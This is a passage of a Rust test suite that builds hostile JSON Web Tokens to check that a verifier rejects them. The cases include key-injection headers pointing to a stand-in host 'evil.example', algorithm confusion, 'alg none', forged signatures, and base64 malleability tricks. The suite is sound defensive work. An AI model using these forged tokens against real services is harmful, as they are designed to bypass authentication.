        (KeyInjection, "jwk", embedded(&[("kid", "\"foreign\""), ("jwk", &jwk_text)]), UnknownKey),
        (KeyInjection, "jwk under our kid", embedded(&[("jwk", &jwk_text)]), Signature),
        (KeyInjection, "jwk without kid", embedded(&[("kid", ""), ("jwk", &jwk_text)]), Signature),
        (KeyInjection, "jku", embedded(&[("jku", "\"https://evil.example/jwks\"")]), Signature),
        (KeyInjection, "jku with their kid", embedded(&[("kid", "\"foreign\""), ("jku", "\"https://evil.example\"")]), UnknownKey),
        (KeyInjection, "x5u", embedded(&[("x5u", "\"https://evil.example/cert\"")]), Signature),
        (KeyInjection, "x5c", embedded(&[("x5c", &json!([theirs["n"]]).to_string())]), Signature),
        (KeyInjection, "x5t", embedded(&[("x5t", "\"AAAA\""), ("x5t#S256", "\"AAAA\"")]), Signature),
        (Kid, "another of our keys", seal_as(forge, Algorithm::Es256, &header(&[])), Signature),
        (AlgConfusion, "RS256 called PS256", forge.with_header(&[("alg", "\"PS256\""), ("kid", "")]), Signature),
        (AlgConfusion, "PS256 called RS256", seal_as(forge, Algorithm::Ps256, &header(&[])), Signature),
        (AlgConfusion, "RS512 called RS256", seal_as(forge, Algorithm::Rs512, &header(&[])), Signature),
        (AlgConfusion, "PS512 called PS256", seal_as(forge, Algorithm::Ps512, &header(&[("alg", "\"PS256\"")])), Signature),
        (AlgConfusion, "ES384 called ES256", seal_as(forge, Algorithm::Es384, &of_kind("ES256", "p256")), Signature),
        (AlgConfusion, "a P-384 key for ES256", seal_as(forge, Algorithm::Es384, &of_kind("ES256", "p384")), UnknownKey),
        (AlgConfusion, "ES256 under an RSA kid", seal_as(forge, Algorithm::Es256, &of_kind("ES256", "rsa")), UnknownKey),
        (AlgConfusion, "EdDSA under an EC kid", seal_as(forge, Algorithm::EdDsa, &of_kind("EdDSA", "p256")), UnknownKey),
    ]
}

/// Signatures that are wrong, and some that a careless verifier takes for right.
#[rustfmt::skip]
fn signatures(forge: &Forge) -> Listed {
    let with = |algorithm: Algorithm, change: &dyn Fn(Vec<u8>) -> Vec<u8>| {
        let mut parts = forge.good(algorithm);
        parts.signature = encode(change(decode(&parts.signature)));
        parts.to_string()
    };
    let rs256 = |change: &dyn Fn(Vec<u8>) -> Vec<u8>| with(Algorithm::Rs256, change);
    let es256 = |change: &dyn Fn(Vec<u8>) -> Vec<u8>| with(Algorithm::Es256, change);
    let eddsa = |change: &dyn Fn(Vec<u8>) -> Vec<u8>| with(Algorithm::EdDsa, change);
    let modulus = decode(forge.rsa.public_jwk()["n"].as_str().unwrap());
    let order = P256_ORDER;
    let order_twice = [order, order].concat();
    let half = |first: &[u8], second: &[u8]| [first, second].concat();
    let swap = |payload: Parts, signature: Parts| {
        Parts {
            signature: signature.signature,
            ..payload
        }
        .to_string()
    };
    vec![
        (Forged, "RS256 of zeros", rs256(&|signature| vec![0; signature.len()]), Signature),
        (Forged, "RS256 of one", rs256(&|signature| numbered(1, signature.len())), Signature),
        (Forged, "RS256 of one byte", rs256(&|_| vec![0]), Signature),
        (Forged, "RS256 one byte short", rs256(&|signature| signature[1..].to_vec()), Signature),
        (Forged, "RS256 without its last byte", rs256(&|signature| signature[..signature.len() - 1].to_vec()), Signature),
        (Forged, "RS256 behind a zero", rs256(&|signature| half(&[0], &signature)), Signature),
        (Forged, "RS256 before a zero", rs256(&|signature| half(&signature, &[0])), Signature),
        (Forged, "RS256 twice", rs256(&|signature| half(&signature, &signature)), Signature),
        (Forged, "RS256 plus the modulus", rs256(&|signature| sum(&signature, &modulus)), Signature),
        (Forged, "RS256 of the modulus", rs256(&|_| modulus.clone()), Signature),
        (Forged, "RS256 with a bit flipped", rs256(&flipped), Signature),
        (Forged, "ES256 of zeros", es256(&|_| vec![0; 64]), Signature),
        (Forged, "ES256 of r = 0", es256(&|signature| half(&[0; 32], &signature[32..])), Signature),
        (Forged, "ES256 of s = 0", es256(&|signature| half(&signature[..32], &[0; 32])), Signature),
        (Forged, "ES256 of ones", es256(&|_| half(&numbered(1, 32), &numbered(1, 32))), Signature),
        (Forged, "ES256 of the order", es256(&|_| order_twice.clone()), Signature),
        (Forged, "ES256 of r = order", es256(&|signature| half(&order, &signature[32..])), Signature),
        (Forged, "ES256 of ff", es256(&|_| vec![0xff; 64]), Signature),
        (Forged, "ES256 in DER", es256(&|signature| der(&signature)), Signature),
        (Forged, "ES256 one byte short", es256(&|signature| signature[..63].to_vec()), Signature),
        (Forged, "ES256 one byte long", es256(&|signature| half(&signature, &[0])), Signature),
        (Forged, "ES256 with padded numbers", es256(&|s| [&[0], &s[..32], &[0], &s[32..]].concat()), Signature),
        (Forged, "ES256 the other way round", es256(&|signature| half(&signature[32..], &signature[..32])), Signature),
        (Forged, "ES256 with a bit flipped", es256(&flipped), Signature),
        (Forged, "EdDSA of zeros", eddsa(&|_| vec![0; 64]), Signature),
        (Forged, "EdDSA with a point of small order", eddsa(&|_| half(&little(1), &[0; 32])), Signature),
        (Forged, "EdDSA with S + L", eddsa(&|signature| half(&signature[..32], &plus_order(&signature[32..]))), Signature),
        (Forged, "EdDSA one byte short", eddsa(&|signature| signature[..63].to_vec()), Signature),
        (Forged, "EdDSA one byte long", eddsa(&|signature| half(&signature, &[0])), Signature),
        (Forged, "EdDSA with a bit flipped", eddsa(&flipped), Signature),
        (Forged, "claims of another token", swap(tampered(), forge.good(Algorithm::Rs256)), Signature),
        (Forged, "claims with a space more", swap(spaced(), forge.good(Algorithm::Rs256)), Signature),
        (Forged, "header of another token", swap(reheaded(), forge.good(Algorithm::Rs256)), Signature),
        (B64, "signature of the claims only", signed_in_part(forge), Signature),
        (Forged, "expired, and under a foreign key", expired_and_foreign(forge), Signature),
    ]
}

/// Tokens that are written otherwise than in compact form (R12), or in base64 that is not canonical (malleability).
#[rustfmt::skip]
fn encodings(forge: &Forge) -> Listed {
    let Parts {
        header,
        payload,
        signature,
    } = &forge.good(Algorithm::Rs256);
    let join = |parts: &[&str]| parts.join(".");
    let hello = seal(
        &forge.rsa,
        Algorithm::Rs256,
        super::header(&[("x", "\"\u{3e}\u{3f}\u{7f}\u{3ff}~~??\"")]),
        claims(&[]),
    );
    let standard = hello.to_string().replace('-', "+").replace('_', "/");
    assert!(standard != hello.to_string());
    // Ed25519 signatures have 64 bytes: in base64 the last character has four bits too many.
    let ed25519 = forge.good(Algorithm::EdDsa);
    let loose = Parts {
        signature: set_loose_bit(&ed25519.signature),
        ..ed25519
    };
    let unsigned = encode(super::header(&[("alg", "\"none\""), ("kid", "")]));
    let jwe = format!("{}.a.b.c.d", encode("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}"));
    vec![
        (Malleability, "nothing but dots", "..".to_owned(), Malformed),
        (Malleability, "no dot", "abc".to_owned(), Malformed),
        (Malleability, "opaque", "0123456789abcdef0123456789abcdef".to_owned(), Malformed),
        (Malleability, "one part", header.clone(), Malformed),
        (Malleability, "two parts", join(&[header, payload]), Malformed),
        (Malleability, "an empty header", join(&["", payload, signature]), Malformed),
        (Malleability, "an empty payload", join(&[header, "", signature]), Malformed),
        (Malleability, "an empty signature", join(&[header, payload, ""]), Malformed),
        (AlgNone, "alg none and an empty signature", join(&[&unsigned, payload, ""]), Malformed),
        (AlgNone, "alg none and no signature", join(&[&unsigned, payload]), Malformed),
        (AlgNone, "alg none with a signature", join(&[&unsigned, payload, signature]), WrongAlgorithm),
        (Malleability, "four parts", join(&[header, payload, signature, signature]), Malformed),
        (Malleability, "four parts, the last empty", join(&[header, payload, signature, ""]), Malformed),
        (Malleability, "four parts, the first empty", join(&["", header, payload, signature]), Malformed),
        (Jwe, "JWE", jwe, Malformed),
        (Jwe, "JWE with empty parts", join(&[header, "", payload, "", signature]), Malformed),
        (Size, "a thousand dots", ".".repeat(1000), Malformed),
        (Malleability, "padded signature", format!("{}==", join(&[header, payload, signature])), Malformed),
        (Malleability, "one character of signature", join(&[header, payload, "A"]), Malformed),
        (Malleability, "loose bits in the signature", loose.to_string(), Malformed),
        (Malleability, "loose bits in the header", loose_header(forge), Malformed),
        (Malleability, "loose bits in the claims", loose_claims(forge), Malformed),
        (Malleability, "standard alphabet", standard, Malformed),
        (Malleability, "a tilde", join(&[header, payload, &format!("{signature}~")]), Malformed),
        (Malleability, "base64 twice", join(&[&encode(header), &encode(payload), &encode(signature)]), Header("not a JSON object")),
    ]
}

/// What is no token already where it is read from the request (R15, R20).
#[rustfmt::skip]
fn unread(forge: &Forge) -> Vec<Row> {
    let token = forge.good(Algorithm::Rs256);
    let Parts {
        header,
        payload,
        signature,
    } = &token;
    let json = |members: Value| members.to_string();
    let long = 16 * 1024 + 1 - token.to_string().len();
    let rows = [
        (Size, "16 KiB and a byte", format!("{token}{}", "A".repeat(long))),
        (Jwe, "JSON serialization", json(json!({"payload": payload, "protected": header, "signature": signature}))),
        (Jwe, "JSON of several", json(json!({"payload": payload, "signatures": [{"protected": header}]}))),
        (Malleability, "padding within", format!("{header}=.{payload}=.{signature}")),
        (Malleability, "a space within", format!("{header}. {payload}.{signature}")),
        (Malleability, "a space behind", format!("{token} ")),
        (Malleability, "a space before", format!(" {token}")),
        (Malleability, "a tab behind", format!("{token}\t")),
        (Malleability, "a line end within", format!("{header}.\r\n{payload}.{signature}")),
        (Malleability, "a line end behind", format!("{token}\n")),
        (Malleability, "in quotes", format!("\"{token}\"")),
        (Malleability, "twice", format!("{token}, Bearer {token}")),
        (Malleability, "a comma behind", format!("{token},")),
        (Malleability, "percent-encoded", token.to_string().replace('.', "%2e")),
        (Malleability, "nothing", String::new()),
        (Malleability, "not ASCII", format!("{token}\u{e9}")),
        (Malleability, "another dot", format!("{header}\u{ff0e}{payload}\u{ff0e}{signature}")),
    ];
    rows.map(|(class, name, token)| (class, name.to_owned(), token, Credentials)).into()
}

/// Signed by the key for this algorithm, under a header that may say otherwise.
fn seal_as(forge: &Forge, algorithm: Algorithm, header: &str) -> String {
    seal(forge.key(algorithm), algorithm, header, claims(&[])).to_string()
}

fn of_kind(algorithm: &str, kid: &str) -> String {
    header(&[("alg", &json!(algorithm).to_string()), ("kid", &json!(kid).to_string())])
}

fn unsigned(header: String, claims: String) -> Parts {
    signed(header, claims, |_| Vec::new())
}

fn tampered() -> Parts {
    unsigned(header(&[]), claims(&[("sub", "\"root\"")]))
}

fn spaced() -> Parts {
    unsigned(header(&[]), format!("{} ", claims(&[])))
}

fn reheaded() -> Parts {
    unsigned(header(&[("typ", "\"JWT\"")]), claims(&[]))
}

/// `b64: false` with the member that says so left out: what is signed is the claims as they are.
fn signed_in_part(forge: &Forge) -> String {
    signed(header(&[]), claims(&[]), |_| {
        forge.rsa.sign(Algorithm::Rs256, claims(&[]).as_bytes())
    })
    .to_string()
}

/// What is wrong with the claims must not show before the signature is proven.
fn expired_and_foreign(forge: &Forge) -> String {
    let ours = forge.foreign.with_kid("rsa");
    let good = good(&ours, Algorithm::Rs256);
    let expired = claims(&[("exp", &(NOW - 3600).to_string())]);
    seal(&ours, Algorithm::Rs256, decode(&good.header), expired).to_string()
}

/// A header whose base64 ends in bits that do not count, and with those bits set, under a right signature of the text.
fn loose_header(forge: &Forge) -> String {
    let header = (0..3).map(|spaces| format!("{}{}", header(&[]), " ".repeat(spaces)));
    let header = header.map(encode).find(|text| text.len() % 4 == 2).unwrap();
    resign(forge, &set_loose_bit(&header), &encode(claims(&[])))
}

fn loose_claims(forge: &Forge) -> String {
    let claims = (0..3).map(|spaces| format!("{}{}", claims(&[]), " ".repeat(spaces)));
    let claims = claims.map(encode).find(|text| text.len() % 4 == 2).unwrap();
    resign(forge, &encode(header(&[])), &set_loose_bit(&claims))
}

/// The last character of two that stand for one byte has the values 0, 16, 32 or 48. The next value sets a loose bit.
fn set_loose_bit(text: &str) -> String {
    let (stem, last) = text.split_at(text.len() - 1);
    let next = match last {
        "A" => "B",
        "Q" => "R",
        "g" => "h",
        _ => "x",
    };
    format!("{stem}{next}")
}

fn resign(forge: &Forge, header: &str, payload: &str) -> String {
    let message = format!("{header}.{payload}");
    let signature = forge.rsa.sign(Algorithm::Rs256, message.as_bytes());
    format!("{message}.{}", encode(signature))
}

fn flipped(mut signature: Vec<u8>) -> Vec<u8> {
    signature[10] ^= 1;
    signature
}

/// A number, big-endian, of this length.
fn numbered(number: u8, length: usize) -> Vec<u8> {
    let mut bytes = vec![0; length];
    bytes[length - 1] = number;
    bytes
}

/// A number, little-endian, of 32 bytes.
fn little(number: u8) -> Vec<u8> {
    let mut bytes = numbered(number, 32);
    bytes.reverse();
    bytes
}

/// The sum of two big-endian numbers of one length; with a byte more if need be.
fn sum(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut carry = 0;
    let mut digits: Vec<u8> = Vec::new();
    for (a, b) in a.iter().rev().zip(b.iter().rev()) {
        let [high, low] = (u16::from(*a) + u16::from(*b) + carry).to_be_bytes();
        digits.push(low);
        carry = u16::from(high);
    }
    digits.extend((carry > 0).then_some(1));
    digits.reverse();
    digits
}

/// The number S of an Ed25519 signature plus the order of the group: the same number to a verifier that does not look.
fn plus_order(s: &[u8]) -> Vec<u8> {
    let reversed = |bytes: &[u8]| bytes.iter().rev().copied().collect::<Vec<_>>();
    reversed(&sum(&reversed(s), &ED25519_ORDER))
}

/// The two numbers of an ECDSA signature as X.509 and TLS have them.
fn der(signature: &[u8]) -> Vec<u8> {
    let number = |bytes: &[u8]| {
        let bytes: Vec<u8> = bytes.iter().copied().skip_while(|byte| *byte == 0).collect();
        let sign = if bytes[0] >= 0x80 { vec![0] } else { vec![] };
        let length = u8::try_from(sign.len() + bytes.len()).unwrap();
        [vec![2, length], sign, bytes].concat()
    };
    let numbers = [number(&signature[..32]), number(&signature[32..])].concat();
    let length = u8::try_from(numbers.len()).unwrap();
    [vec![0x30, length], numbers].concat()
}

/// The order of the group of P-256, big-endian.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa,
    0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// The order of the group of Ed25519, big-endian.
const ED25519_ORDER: [u8; 32] = [
    0x10, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x14, 0xde, 0xf9,
    0xde, 0xa2, 0xf7, 0x9c, 0xd6, 0x58, 0x12, 0x63, 0x1a, 0x5c, 0xf5, 0xd3, 0xed,
];
